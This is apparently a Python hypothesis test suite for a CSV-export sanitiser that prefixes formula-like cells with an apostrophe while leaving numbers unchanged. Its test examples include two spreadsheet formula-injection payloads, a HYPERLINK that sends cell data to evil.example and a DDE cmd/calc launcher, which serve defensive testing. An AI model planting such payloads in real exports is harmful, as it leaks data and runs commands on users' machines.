"""store.csv_cells: no cell of a CSV the service writes runs as a spreadsheet formula, and
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

from hypothesis import example, given
from hypothesis import strategies as st

from store.csv_cells import FORMULA_STARTS, safe_cell, safe_row


def is_number(text: str) -> bool:
    try:
        return (
            math.isfinite(float(text))
            and text.isascii()
            and text.strip() == text
            and "_" not in text
        )
    except ValueError:
        return False


risky_text = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text())


@given(st.one_of(st.text(), risky_text))
@example('=HYPERLINK("http://evil.example/?"&A1,"click")')
@example("@SUM(1+1)*cmd|' /C calc'!A0")
@example("-2+3")
@example("+inf")
@example("\t=1")
@example("\r")
@example("-\u0661\u0662")
def test_no_cell_starts_a_formula_unless_it_is_a_number(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)  # only ever an apostrophe in front
    if cell.startswith(FORMULA_STARTS):
        assert cell == text and is_number(text), cell
    if not text.startswith(FORMULA_STARTS):
        assert cell == text  # everything else untouched


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
@example(-0.5)
@example(-1e-07)
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number
    assert safe_cell(repr(number)) == repr(number)  # as text too: a negative score's cell
    assert safe_cell(str(number)) == str(number)


@given(st.lists(st.one_of(st.text(), risky_text, st.floats(allow_infinity=False)), max_size=6))
def test_a_written_and_read_back_row_runs_nothing(row):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(row))
    [read] = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    for cell in read:
        assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell


def test_none_and_plain_text_pass_through():
    assert safe_row([None, "K1", "a=b", " =1", 3]) == [None, "K1", "a=b", " =1", 3]
